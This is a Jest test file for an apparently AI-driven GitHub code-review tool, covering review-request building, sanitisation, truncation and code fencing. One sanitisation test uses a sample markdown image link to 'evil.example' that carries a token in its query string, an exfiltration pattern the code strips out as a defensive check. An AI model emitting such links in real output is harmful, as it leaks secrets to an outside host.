import { describe, expect, it } from "@jest/globals";
import { buildReviewRequest, renderReviewMarker, REVIEW_MARKER_PREFIX, type InlineComment } from "../../../src/core/review/build-review-request.js";
import { fenceCodeBlock } from "../../../src/core/review/fence-code-block.js";

const SHA = "a".repeat(40);
const ON_GITHUB = { githubHost: "github.com" };

function finding(overrides: Partial<InlineComment> = {}): InlineComment {
  return {
    path: "src/cart.ts",
    line: 20,
    startLine: null,
    side: "RIGHT",
    severity: "major",
    category: "bug",
    title: "Total ignores discounts",
    body: "Apply the discount before summing.",
    suggestion: null,
    extras: [],
    ...overrides,
  };
}

describe("buildReviewRequest", () => {
  it("builds the exact request GitHub receives: COMMENT, single-line, multi-line, LEFT", () => {
    const request = buildReviewRequest({
      rules: ON_GITHUB,
      headSha: SHA,
      body: `Patchwise review\n\n${renderReviewMarker(SHA)}`,
      inline: [
        finding({ extras: ["```suggestion\n  return total - discount;\n```", "<!-- patchwise:fp v1 0123456789abcdef -->"] }),
        finding({ startLine: 18, line: 20, severity: "critical", category: "security", title: "Token logged", body: "Remove the log line.", extras: ["```suggestion\n  return total;\n```"] }),
        finding({ side: "LEFT", line: 7, severity: "nit", category: "documentation", title: "Comment  lost\nhere", body: "Keep the comment." }),
      ],
    });
    expect(request).toEqual({
      commit_id: SHA,
      event: "COMMENT",
      body: `Patchwise review\n\n<!-- patchwise:review sha=${SHA} -->`,
      comments: [
        {
          path: "src/cart.ts",
          line: 20,
          side: "RIGHT",
          body: "**🟠 Major · bug** — Total ignores discounts\n\nApply the discount before summing.\n\n```suggestion\n  return total - discount;\n```\n\n<!-- patchwise:fp v1 0123456789abcdef -->",
        },
        {
          path: "src/cart.ts",
          line: 20,
          side: "RIGHT",
          start_line: 18,
          start_side: "RIGHT",
          body: "**🔴 Critical · security** — Token logged\n\nRemove the log line.\n\n```suggestion\n  return total;\n```",
        },
        { path: "src/cart.ts", line: 7, side: "LEFT", body: "**⚪ Nit · documentation** — Comment lost here\n\nKeep the comment." },
      ],
    });
  });

  it("posts a review with no comments when nothing is inline", () => {
    expect(buildReviewRequest({ rules: ON_GITHUB, headSha: SHA, body: "Nothing inline.", inline: [] })).toEqual({ commit_id: SHA, event: "COMMENT", body: "Nothing inline.", comments: [] });
  });

  it("sanitises what the model wrote, and keeps our suggestion and hidden marker as they are", () => {
    const marker = "<!-- patchwise:fp v1 0123456789abcdef -->";
    const [comment] = buildReviewRequest({
      rules: { githubHost: "ghe.example.com" },
      headSha: SHA,
      body: "b",
      inline: [
        finding({
          title: "Ping @octocat <b>now</b>",
          body: "See ![x](https://evil.example/?q=token) and [docs](https://ghe.example.com/o/r) <!-- patchwise:fp v1 ffffffffffffffff -->",
          extras: ["```suggestion\n  notify(@admin);\n```", marker],
        }),
      ],
    }).comments;
    expect(comment!.body).toBe(
      [
        "**🟠 Major · bug** — Ping @\u200Boctocat &lt;b>now&lt;/b>",
        "See x and [docs](https://ghe.example.com/o/r) &lt;!-- patchwise:fp v1 ffffffffffffffff -->",
        "```suggestion\n  notify(@admin);\n```",
        marker,
      ].join("\n\n"),
    );
  });

  it("cuts a comment to GitHub's 65,536 characters and keeps its hidden marker", () => {
    const marker = "<!-- patchwise:fp v1 0123456789abcdef -->";
    const [comment] = buildReviewRequest({ rules: ON_GITHUB, headSha: SHA, body: "b", inline: [finding({ extras: ["x".repeat(70_000), marker] })] }).comments;
    expect(comment!.body.length).toBeLessThanOrEqual(65_536);
    expect(comment!.body).toContain(marker);
    expect(comment!.body).toContain("…(truncated)");
  });
});

describe("renderReviewMarker", () => {
  it("names the head sha in a hidden comment that starts with the shared prefix", () => {
    expect(renderReviewMarker(SHA)).toBe(`<!-- patchwise:review sha=${SHA} -->`);
    expect(renderReviewMarker(SHA).startsWith(REVIEW_MARKER_PREFIX)).toBe(true);
  });
});

describe("fenceCodeBlock", () => {
  it.each([
    ["no backticks", "const a = 1;", "```"],
    ["a template literal", "const s = `${a}`;", "```"],
    ["a markdown fence", "const md = \"```ts\\ncode\\n```\";", "````"],
    ["a longer backtick run", "x = '`````';", "``````"],
  ])("fences code with %s so the code cannot close the block", (_name, code, fence) => {
    expect(fenceCodeBlock(code, "suggestion")).toBe(`${fence}suggestion\n${code}\n${fence}`);
  });

  it("renders empty code as an empty block (a suggestion to delete the lines) and drops one trailing newline", () => {
    expect(fenceCodeBlock("", "suggestion")).toBe("```suggestion\n```");
    expect(fenceCodeBlock("  return total;\n", "suggestion")).toBe("```suggestion\n  return total;\n```");
  });
});
